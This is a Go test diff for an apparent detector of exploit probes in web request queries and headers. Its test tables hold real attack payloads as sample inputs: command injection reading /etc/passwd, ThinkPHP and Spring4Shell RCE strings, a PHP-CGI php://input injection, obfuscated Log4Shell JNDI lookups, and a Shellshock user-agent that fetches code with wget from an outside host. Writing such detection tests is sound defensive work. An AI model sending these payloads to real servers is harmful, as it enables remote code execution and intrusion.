@@ -27,12 +27,47 @@ func TestFindProbe(t *testing.T) {
 		{"/api/v1/ping", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", probeTraversal},
 		{"/api/v1/ping", "host=127.0.0.1%7Cwhoami", probeCommand},
 		{"/api/v1/ping", "host=%24(id)", probeCommand},
+		{"/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5", probeCommand},
+		{"/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", probeCommand},
+		{"/index.php", "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", probeCommand},
+		{"/api/v1/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D", probeJNDI},
+		{"/${jndi:ldap://198.51.100.7/x}", "", probeJNDI},
+		{"/api/v1/search", "q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%7D", probeJNDI},
+		{"/api/v1/templates", "body=%24%7Bname%7D", ""},
+		{"/api/v1/search", "q=f(x)+%7B+return+1+%7D", ""},
 	}
 	for _, tt := range tests {
 		m, ok := findProbe(tt.path, tt.query)
 		if ok != (tt.kind != "") || m.kind != tt.kind {
 			t.Errorf("findProbe(%q, %q) = %q, %v; want %q", tt.path, tt.query, m.kind, ok, tt.kind)
 		}
+	}
+}
+
+func TestHeaderProbe(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		ua, referer string
+		kind, where string // "" for an ordinary request
+	}{
+		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "https://example.com/a?b=c", "", ""},
+		{"curl/8.5.0", "", "", ""},
+		{"Mozilla/5.0 {compatible}", "", "", ""},
+		{"() { :; }; /bin/bash -c 'wget http://198.51.100.7/x'", "", probeCommand, "user-agent"},
+		{"${jndi:ldap://198.51.100.7:1389/Basic/Command}", "", probeJNDI, "user-agent"},
+		{"Mozilla/5.0", "${${lower:j}ndi:${lower:l}dap://x/a}", probeJNDI, "referer"},
+	}
+	for _, tt := range tests {
+		m, ok := headerProbe(tt.ua, tt.referer)
+		if ok != (tt.kind != "") || m.kind != tt.kind || m.where != tt.where {
+			t.Errorf("headerProbe(%q, %q) = %q in %q, %v; want %q in %q", tt.ua, tt.referer, m.kind, m.where, ok, tt.kind, tt.where)
+		}
+	}
+	var s sample
+	m, _ := headerProbe("${jndi:ldap://x/a}", "")
+	probeSample(&s, "/", m)
+	if got, want := s.String(), "jndi / header user-agent:${jndi:ldap://x/a}"; got != want {
+		t.Errorf("sample %q, want %q", got, want)
 	}
 }
 
